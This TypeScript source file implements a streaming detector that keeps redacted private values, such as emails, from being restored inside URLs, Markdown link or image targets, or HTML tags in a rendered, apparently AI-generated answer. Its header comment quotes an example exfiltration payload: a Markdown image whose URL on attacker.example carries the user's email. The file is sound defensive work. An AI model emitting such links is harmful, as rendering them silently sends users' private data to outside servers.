/**
 * Where in the rendered answer the next character lands: in prose, or somewhere a
 * renderer would send it to a server (issue 16: an answer that says
 * `![x](https://attacker.example/p.png?d=[EMAIL_1])` must not become a request carrying the
 * address once the app renders the Markdown).
 *
 * It reads the answer one character at a time, as the app receives it, and keeps only
 * small state across chunks, so nothing is held back for it: the restorer asks it, at
 * each placeholder, about text that has already gone out. A position counts as a link
 * position when any of these holds (each errs toward refusing; a refusal costs a visible
 * placeholder, a miss costs the value):
 * - a bare URL: the whitespace-free run so far holds `//` (or `\\`, which browsers read as
 *   `//` in http URLs), a scheme and colon (`https:`, `mailto:`, `data:`, `javascript:`…),
 *   `www.`, a `host.tld` followed by `/`, `?` or `#`, or CSS `url(`;
 * - a Markdown inline link or image target: after `](` until the matching `)` (balanced
 *   parentheses and backslash escapes, as CommonMark counts them), title included;
 * - a reference definition `[id]: …` (CommonMark §4.7; footnotes `[^1]:` are prose), until
 *   the paragraph ends;
 * - inside `<…>` opened by a letter, `/`, `!`, `?` or a placeholder (a tag, an autolink,
 *   `<[EMAIL_1]>`): every attribute value is refused, not only `src`/`href`/`srcset`/`style`,
 *   since handlers and unknown attributes reach the network too. Quotes are tracked so a `>`
 *   inside `alt="a > b"` does not end the tag.
 * A blank line ends every Markdown state (a paragraph cannot span it); a tag inside an open
 * quoted attribute value stays open, since an HTML renderer does not care about paragraphs.
 */

export interface RenderContext {
  /** The text the app receives, in order, in pieces of any size. */
  feed(text: string): void;
  /** Whether text arriving now would sit in a URL, a link or image target, a definition, or an HTML tag. */
  inLink(): boolean;
}

const SPACE = /\s/;
const SCHEME = /(?:^|[^\p{L}\p{N}+.-])(?:https?|ftp|wss?|mailto|data|javascript|vbscript|file|tel|sms|blob)$/iu;
const WWW = /(?:^|[^\p{L}\p{N}])www\d{0,3}$/iu;
const HOST = /[\p{L}\p{N}-]\.\p{L}{2,}(?::\d+)?$/u;
const CSS_URL = /(?:^|[^\p{L}\p{N}-])url$/iu;
/** The start of a line that `:` turns into a reference definition; CommonMark labels are at most 999 characters. */
const DEFINITION = /^ {0,3}\[(?!\^)(?:[^\]\\]|\\.){1,999}\]$/;
const TAG_START = /[\p{L}/!?[\\]/u;
/** Enough of a run for the tests above, which look only at its end. */
const RUN_TAIL = 64;
const LINE_HEAD = 1024;

/** @example const where = createRenderContext(); where.feed('![x](https://a.example/?d='); where.inLink(); // true */
export function createRenderContext(): RenderContext {
  let prev = '';
  let run = '';
  let runIsUrl = false;
  let line = '';
  let lineBlank = true;
  let definition = false;
  let target = 0;
  let escaped = false;
  let tag = false;
  let quote = '';
  let afterLt = false;

  function paragraphEnds(): void {
    definition = false;
    target = 0;
    escaped = false;
    afterLt = false;
    if (quote === '') tag = false;
  }

  function tagStep(ch: string): void {
    if (tag) {
      if (quote !== '') {
        if (ch === quote) quote = '';
      } else if (ch === '"' || ch === "'") quote = ch;
      else if (ch === '>') tag = false;
      return;
    }
    if (afterLt) {
      afterLt = false;
      if (TAG_START.test(ch)) {
        tag = true;
        return;
      }
    }
    if (ch === '<') afterLt = true;
  }

  function targetStep(ch: string): void {
    if (target > 0) {
      if (escaped) escaped = false;
      else if (ch === '\\') escaped = true;
      else if (ch === '(') target++;
      else if (ch === ')') target--;
    } else if (ch === '(' && prev === ']') target = 1;
  }

  function runStep(ch: string): void {
    if (SPACE.test(ch)) {
      run = '';
      runIsUrl = false;
      return;
    }
    if (!runIsUrl) {
      if ((ch === '/' || ch === '\\') && (prev === '/' || prev === '\\')) runIsUrl = true;
      else if (ch === ':') runIsUrl = SCHEME.test(run);
      else if (ch === '.') runIsUrl = WWW.test(run);
      else if (ch === '/' || ch === '?' || ch === '#') runIsUrl = HOST.test(run);
      else if (ch === '(') runIsUrl = CSS_URL.test(run);
    }
    run = run.length < RUN_TAIL ? run + ch : run.slice(1) + ch;
  }

  function lineStep(ch: string): void {
    if (ch === '\n') {
      if (lineBlank) paragraphEnds();
      line = '';
      lineBlank = true;
      return;
    }
    if (ch === ':' && !definition && DEFINITION.test(line)) definition = true;
    if (line.length < LINE_HEAD) line += ch;
    if (!SPACE.test(ch)) lineBlank = false;
  }

  return {
    feed(text) {
      for (const ch of text) {
        tagStep(ch);
        targetStep(ch);
        runStep(ch);
        lineStep(ch);
        prev = ch;
      }
    },
    inLink: () => tag || afterLt || target > 0 || definition || runIsUrl,
  };
}
